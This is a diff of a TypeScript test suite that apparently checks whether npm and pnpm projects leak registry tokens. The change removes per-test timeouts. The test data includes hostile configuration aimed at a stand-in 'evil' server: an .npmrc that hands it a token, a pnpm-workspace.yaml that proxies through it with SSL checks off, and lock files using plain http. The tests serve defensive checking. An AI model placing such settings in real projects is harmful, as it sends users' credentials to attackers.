@@ -32,7 +32,7 @@ beforeAll(async () => {
     host,
     relay: laptop.sandbox.proxyUrl,
   });
-}, 120_000);
+});
 afterAll(async () => {
   await evil?.stop();
   await network?.stop();
@@ -96,12 +96,12 @@ function expectWords({ stderr }: Finished, words: RegExp | null): void {
 
 describe.each(["npm-9", "npm-10", "npm-11", "npm-12"])("in a project %s", (tool) => {
   describe.skipIf(!requires(join(programsOf(tool), "npm")))("where it is installed,", () => {
-    test("installs from the registry in an honest project", () => installs(tool, ["npm", "install"]), 120_000);
+    test("installs from the registry in an honest project", () => installs(tool, ["npm", "install"]));
 
     test("ignores what only pnpm reads", async () => {
       const x = `http://${endpoint}my-lib/-/my-lib-1.0.0.tgz`;
       await installs(tool, ["npm", "install"], { "pnpm-lock.yaml": pnpmLock(x), "pnpm-workspace.yaml": `a: ${x}\n` });
-    }, 120_000);
+    });
 
     test.each(hostileFiles)(
       "gives nobody the token with %s",
@@ -171,7 +171,7 @@ describe.each(["npm-9", "npm-10", "npm-11", "npm-12"])("in a project %s", (tool)
       const files = { "package-lock.json": lock(`http://${endpoint}my-lib/-/my-lib-1.0.0.tgz`) };
       const finished = await run(tool, ["npm", "ci", "--ignore-scripts"], files);
       expectWords(finished, /package-lock\.json: packages\.node_modules\/my-lib\.resolved .*plain http/);
-    }, 120_000);
+    });
   });
 });
 
@@ -233,14 +233,14 @@ describe.skipIf(!requires(join(tools, "npm-11/node_modules/.bin/npm")))("in a ho
   test("an honest publish works", async () => {
     const files = { "package.json": manifest({ name: "honest", publishConfig: { access: "public", tag: "latest" } }) };
     await ended(run("npm-11", ["npm", "publish"], files));
-  }, 120_000);
+  });
 });
 
 describe.each(["pnpm-9", "pnpm", "pnpm-11", "pnpm-12"])("in a project %s", (tool) => {
   describe.skipIf(!requires(join(programsOf(tool), "pnpm")))("where it is installed,", () => {
-    beforeAll(() => setUpNpm(laptop, withTool(tool)), 120_000);
+    beforeAll(() => setUpNpm(laptop, withTool(tool)));
 
-    test("installs from the registry in an honest project", () => installs(tool, ["pnpm", "install"]), 120_000);
+    test("installs from the registry in an honest project", () => installs(tool, ["pnpm", "install"]));
 
     test("ignores what only npm and yarn read, and reads its own lock file", async () => {
       const x = `http://${endpoint}my-lib/-/my-lib-1.0.0.tgz`;
@@ -254,7 +254,7 @@ describe.each(["pnpm-9", "pnpm", "pnpm-11", "pnpm-12"])("in a project %s", (tool
           expect(finished.stderr).toMatch(/lock\.yaml: packages\..* leads to the registry by plain http/);
         }
       }
-    }, 120_000);
+    });
 
     test.each<[string, (x: string) => Files]>([
       [
@@ -350,12 +350,12 @@ describe.each(["pnpm-9", "pnpm", "pnpm-11", "pnpm-12"])("in a project %s", (tool
       const files = { ".npmrc": `registry=${evil.url}/\n//${bare(evil.url)}/:_authToken=\${p${variable}}\n` };
       const finished = await run(tool, ["pnpm", "install", "--ignore-scripts"], files);
       expect(finished.stderr).toContain("names the variable of a token");
-    }, 120_000);
+    });
 
     test("gives nobody the token by a proxy in pnpm-workspace.yaml", async () => {
       const files = { "pnpm-workspace.yaml": `packages: []\nhttpsProxy: ${evil.url}\nstrictSsl: false\n` };
       const finished = await run(tool, ["pnpm", "install", "--ignore-scripts"], files);
       expect(finished.stderr).toMatch(/pnpm-workspace\.yaml: (httpsProxy|strictSsl) /);
-    }, 120_000);
+    });
   });
 });
